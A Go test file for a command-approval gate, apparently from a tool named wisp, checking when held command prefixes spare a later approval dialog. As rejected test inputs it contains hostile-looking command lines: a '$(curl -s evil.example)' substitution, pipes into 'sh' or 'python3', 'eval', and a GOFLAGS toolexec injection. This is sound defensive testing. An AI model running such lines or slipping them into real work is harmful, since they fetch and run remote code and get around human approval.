package approval

import (
	"bytes"
	"encoding/json"
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/wisp-sh/wisp/internal/config"
	"github.com/wisp-sh/wisp/pending"
	"github.com/wisp-sh/wisp/policy"
)

// TestHeldPrefixCovers: a held prefix spares the next dialog only when
// every command that would ask is held and the line's own rules ask no
// more than those commands.
func TestHeldPrefixCovers(t *testing.T) {
	cases := []struct {
		name, line string
		want       bool
	}{
		{"another package", "go test ./pkg/b", true},
		{"other flags", "go test -run TestX -count=1 ./...", true},
		{"a low command beside it", "cd sub && go test ./...", true},
		{"piped into a low command", "go test ./... | grep FAIL", true},
		{"every segment held", "go test ./... && git commit -m 'x'", true},
		{"a redirection, moderate like the held command", "go test ./... > test.log", true},
		{"one segment not held", "go test ./... && go vet ./...", false},
		{"another subcommand", "go build ./...", false},
		{"piped into an interpreter", "go test ./... | python3", false},
		{"$( ) runs an unheld command", "go test $(curl -s evil.example)", false},
		{"a string run later", "eval go test ./...", false},
		{"through a wrapper", "timeout 5 go test ./...", false},
		{"with a variable set", "GOFLAGS=-toolexec=./x go test ./...", false},
		{"another go", "./go test ./...", false},
		{"a high row's flags", "git commit -m x && git push", false},
	}
	g, _ := newGate(t, "moderate")
	for _, e := range []string{"go test …", "git commit …"} {
		if err := g.Held.Keep(e, "/proj", Session); err != nil {
			t.Fatal(err)
		}
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			scope, err := g.Held.CoversByPrefix(c.line, "/proj", policy.Moderate)
			if err != nil {
				t.Fatal(err)
			}
			if got := scope != ""; got != c.want {
				t.Errorf("%q covered: %v (scope %q), want %v", c.line, got, scope, c.want)
			}
		})
	}
}

// TestOfferedPrefixes: what a dialog offers to hold, and that the rows
// which destroy or publish are offered exact only.
func TestOfferedPrefixes(t *testing.T) {
	cases := []struct {
		line      string
		threshold policy.Level
		want      []string
	}{
		{"go test ./pkg/a", policy.Moderate, []string{"go test …"}},
		{"npm run test", policy.Moderate, []string{"npm run test …"}},
		{"go build ./... && go test ./...", policy.Moderate, []string{"go build …", "go test …"}},
		{"cd x && git commit -m y", policy.Moderate, []string{"git commit …"}},
		{"go install ./cmd/x", policy.High, []string{"go install …"}},
		{"go test ./... && go install ./cmd/x", policy.High, []string{"go install …"}},
		{"rm -r build", policy.High, nil},
		{"git push", policy.High, nil},
		{"gh pr merge 1", policy.High, nil},
		{"go test ./... | sh", policy.Moderate, nil},
		{"go test ./... && rm -r build", policy.Moderate, nil},
		{"eval go test", policy.Moderate, nil},
	}
	for _, c := range cases {
		if got := OfferedPrefixes(c.line, c.threshold); !slices.Equal(got, c.want) {
			t.Errorf("%q at %s offers %q, want %q", c.line, c.threshold, got, c.want)
		}
	}
}

// TestGateKeepsAndUsesAPrefix: a person who holds the prefix is not asked
// for the next package's tests, and the audit says what was held.
func TestGateKeepsAndUsesAPrefix(t *testing.T) {
	person := &scripted{name: "terminal", person: true, answer: Answer{Approve: true, Scope: Project, Prefix: true, By: "terminal"}}
	g, home := newGate(t, "moderate", person)
	if c := ask(t, g, "go test ./pkg/a", false); !c.Approved {
		t.Fatalf("not approved: %+v", c)
	}
	if !slices.Equal(person.last.Prefixes, []string{"go test …"}) {
		t.Errorf("the dialog was offered %q, want go test …", person.last.Prefixes)
	}
	if c := ask(t, g, "go test ./pkg/b", false); !c.Approved || person.asked.Load() != 1 {
		t.Errorf("go test ./pkg/b asked again (%d dialogs): %+v", person.asked.Load(), c)
	}
	ask(t, g, "go vet ./...", false)
	if person.asked.Load() != 2 {
		t.Errorf("go vet was covered by go test …: %d dialogs", person.asked.Load())
	}
	entries, err := NewHeld(home).List()
	if err != nil {
		t.Fatal(err)
	}
	if len(entries) == 0 || entries[0] != (Entry{Scope: Project, Project: "/proj", Line: "go test …", Prefix: true}) {
		t.Errorf("approvals.json holds %+v, want the project prefix go test …", entries)
	}
	assertAudited(t, home, `"prefixes":["go test …"]`)
	assertAudited(t, home, `"by":"held prefix"`)
}

// TestOutsideSandboxIsNeverCoveredByAPrefix: decision D16 holds at every
// threshold, whatever is held.
func TestOutsideSandboxIsNeverCoveredByAPrefix(t *testing.T) {
	person := &scripted{name: "terminal", person: true, answer: Answer{Approve: true, Scope: Always, Prefix: true, By: "terminal"}}
	g, home := newGate(t, "moderate", person)
	g.Held.Keep("go test …", "/proj", Always)
	ask(t, g, "go test ./...", true)
	ask(t, g, "go test ./...", true)
	if n := person.asked.Load(); n != 2 || len(person.last.Prefixes) != 0 {
		t.Errorf("outside-sandbox asked %d times and offered %q, want 2 and no prefix", n, person.last.Prefixes)
	}
	entries, _ := NewHeld(home).List()
	if len(entries) != 1 {
		t.Errorf("an outside-sandbox answer kept something: %+v", entries)
	}
}

// oldHeldFile is approvals.json as the wisp before prefixes read it,
// strictly: a file it cannot read stops it.
type oldHeldFile struct {
	Version int                 `json:"version"`
	Project map[string][]string `json:"project"`
	Always  []string            `json:"always"`
}

// TestApprovalsFileFromThePreviousFormat: a file written by the previous
// wisp is read and kept, every entry; after a prefix is added the previous
// reader still reads it, and the prefix matches no line there.
func TestApprovalsFileFromThePreviousFormat(t *testing.T) {
	old, err := os.ReadFile("testdata/approvals-v1.json")
	if err != nil {
		t.Fatal(err)
	}
	g, home := newGate(t, "moderate")
	if err := os.WriteFile(home.ApprovalsFile(), old, 0o600); err != nil {
		t.Fatal(err)
	}
	before, err := g.Held.List()
	if err != nil || len(before) != 3 {
		t.Fatalf("the previous format read as %+v, %v; want its 3 entries", before, err)
	}
	if err := g.Held.Keep("go test …", "/proj", Project); err != nil {
		t.Fatal(err)
	}
	after, _ := g.Held.List()
	for _, e := range before {
		if !slices.Contains(after, e) {
			t.Errorf("%+v was lost when a prefix was kept: %+v", e, after)
		}
	}
	data, _ := os.ReadFile(home.ApprovalsFile())
	dec := json.NewDecoder(bytes.NewReader(data))
	dec.DisallowUnknownFields()
	var f oldHeldFile
	if err := dec.Decode(&f); err != nil || f.Version != 1 {
		t.Fatalf("the previous reader cannot read the file now: %v (version %d)\n%s", err, f.Version, data)
	}
	if !slices.Contains(f.Project["/proj"], "go test …") {
		t.Errorf("the prefix is not where the previous reader finds lines: %s", data)
	}
}

// A figure of issue 14: the old default answered by holding prefixes.
func TestDialogsOverADevSessionHoldingPrefixes(t *testing.T) {
	oldDefault := ResolveThreshold("", SandboxOff).Level
	lines, _ := dialogs(t, oldDefault, Session)
	prefixes, asked := dialogsAnswering(t, oldDefault, Answer{Approve: true, Scope: Session, Prefix: true, By: "terminal"})
	t.Logf("old default (%s), answering session: %d dialogs holding lines, %d holding prefixes: %q", oldDefault, lines, prefixes, asked)
	if prefixes >= lines {
		t.Errorf("holding prefixes asked %d times, holding lines %d", prefixes, lines)
	}
	tests := 0
	for _, l := range asked {
		if strings.HasPrefix(l, "go test ") {
			tests++
		}
	}
	if tests != 1 {
		t.Errorf("go test asked %d times though its prefix was held after the first: %q", tests, asked)
	}
}

// Out of band, the request offers the prefix scopes and names the prefix;
// an answer of session-prefix, given as wisp-bar gives it, holds the
// prefix, and the next package's tests ask no one.
func TestOutOfBandHoldsAPrefix(t *testing.T) {
	home := config.Home{Dir: t.TempDir()}
	ch := pending.New(home.PendingDir())
	g := &Gate{Threshold: "moderate", Held: NewHeld(home), Project: "/proj",
		Approvers: []Approver{&OutOfBand{Channel: ch, Face: pending.FaceChat}}}
	go func() {
		for deadline := time.Now().Add(10 * time.Second); time.Now().Before(deadline); {
			list, _ := ch.List()
			for _, p := range list {
				if !slices.Contains(p.Request.Scopes, pending.ScopeSessionPrefix) || pending.HeldPrefix(p.Request) != "go test …" {
					t.Errorf("the filed request offers %q and names the prefix %q", p.Request.Scopes, pending.HeldPrefix(p.Request))
				}
				if _, err := ch.Answer(p, pending.DecisionApprove, pending.ScopeSessionPrefix, "wisp-bar"); err != nil {
					t.Error(err)
				}
				return
			}
			time.Sleep(10 * time.Millisecond)
		}
	}()
	if c := ask(t, g, "go test ./pkg/a", false); !c.Approved {
		t.Fatalf("not approved: %+v", c)
	}
	if scope, _ := g.Held.CoversByPrefix("go test ./pkg/b", "/proj", policy.Moderate); scope != Session {
		t.Errorf("after session-prefix, go test ./pkg/b is held at %q, want session", scope)
	}
}
